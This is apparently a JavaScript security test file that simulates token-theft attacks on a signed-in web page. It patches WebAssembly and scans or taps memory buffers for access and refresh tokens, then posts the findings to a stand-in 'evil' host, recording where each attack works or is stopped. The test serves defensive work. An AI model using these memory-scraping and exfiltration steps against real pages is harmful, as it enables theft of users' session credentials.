// T4: a script looks for the WebAssembly instance and reads its memory.

import assert from "node:assert/strict";

import { statusOf } from "../browser/support/calls.mjs";
import { attack } from "./support/attack.mjs";
import { catchInstances, seekMemory, tapMemory } from "./scripts/memory.mjs";

const tokens = ["access token", "refresh token"];
const inWorkers = { worker: "stopped", shared: "stopped" };

attack(
  {
    id: "T4",
    threat: "S4",
    title: "patch WebAssembly, walk the modules and all objects, read every buffer (STORE-8)",
    when: ["late", "early"],
    outcome: { "page, late": "stopped", "page, early": "works", ...inWorkers },
  },
  async (rig) => {
    const page = await rig.signedInWith(catchInstances);
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await page.evaluate(async () => {
      const memory = new WebAssembly.Memory({ initial: 1 });
      new Uint8Array(memory.buffer).set(new TextEncoder().encode("bait-in-memory"), 99);
      globalThis.bait = [memory];
    });
    const { loot, modules } = await rig.inject(page, seekMemory);
    await rig.inject(page, (evil, bytes) => void evil.post(bytes), loot);
    await rig.arrived(page);
    assert.ok(rig.evil.text().includes("bait-in-memory"), "the search missed a memory that lies open");
    assert.ok(modules > 0, "no module was looked through");
    return rig.verdict(...tokens);
  },
);

attack(
  {
    id: "T4b",
    threat: "S4",
    title: "have accessors tell the memory: WebAssembly.Memory.prototype.buffer, and length and byteLength of typed arrays (STORE-8)",
    when: ["late"],
    outcome: { page: "works", ...inWorkers },
  },
  async (rig) => {
    const page = await rig.signedInWith(tapMemory);
    rig.as.expireAccessTokens();
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await rig.inject(page, (evil) => void evil.post(evil.spoils()));
    await rig.arrived(page);
    return rig.verdict(...tokens);
  },
);
